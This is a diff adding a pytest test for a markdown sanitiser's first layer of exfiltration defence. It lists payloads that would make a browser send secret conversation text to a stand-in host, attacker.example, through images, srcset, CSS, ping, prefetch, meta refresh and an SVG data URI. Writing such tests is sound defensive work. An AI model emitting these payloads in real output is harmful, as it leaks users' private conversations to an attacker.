@@ -96,3 +96,32 @@ def test_line_diff_marks_added_and_removed_lines():
     rows = line_diff("a\nb\nc", "a\nB\nc\nd")
     assert ("del", "b") in rows and ("add", "B") in rows and ("add", "d") in rows
     assert rows[0][0] == "hunk"
+
+
+@pytest.mark.parametrize("source", [
+    "![loading](https://attacker.example/collect?q=SECRET_CONVERSATION_TEXT)",
+    "![x][ref]\n\n[ref]: https://attacker.example/collect?q=SECRET",
+    "![x](//attacker.example/collect?q=SECRET)",
+    "![x](/\\attacker.example/collect?q=SECRET)",
+    "![x](http://127.0.0.1:6379/collect)",
+    '<img src="https://attacker.example/collect?q=SECRET">',
+    '<picture><source srcset="https://attacker.example/c"><img src="/static/x.png"></picture>',
+    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)",
+    '[![x](https://attacker.example/c)](https://example.org)',
+    '<div style="background:url(https://attacker.example/c)">x</div>',
+    '<a href="https://example.org" ping="https://attacker.example/c">x</a>',
+    '<link rel="prefetch" href="https://attacker.example/c"><meta http-equiv="refresh" content="0;url=https://attacker.example/c">',
+])
+def test_the_sanitiser_alone_leaves_no_way_to_load_from_another_host(source):
+    """Layer one of the exfiltration defence, on its own (the browser test covers layer two, the
+    CSP, with this layer switched off): nothing that the browser would fetch by itself points
+    anywhere but here or a raster data: image."""
+    html = render_markdown(source)
+    for tag, attrs in elements(html):
+        assert tag not in {"source", "picture", "link", "meta", "style", "iframe", "object", "embed"}, tag
+        assert "style" not in attrs and "ping" not in attrs and "srcset" not in attrs, (tag, attrs)
+        if tag == "img" and "src" in attrs:  # markdown-it percent-encodes "\\": "/%5Chost" is a path here
+            src = attrs["src"]
+            same_origin_path = src.startswith("/") and not src.startswith(("//", "/\\"))
+            raster_data = src.startswith(("data:image/png", "data:image/gif", "data:image/jpeg", "data:image/webp"))
+            assert same_origin_path or raster_data, src
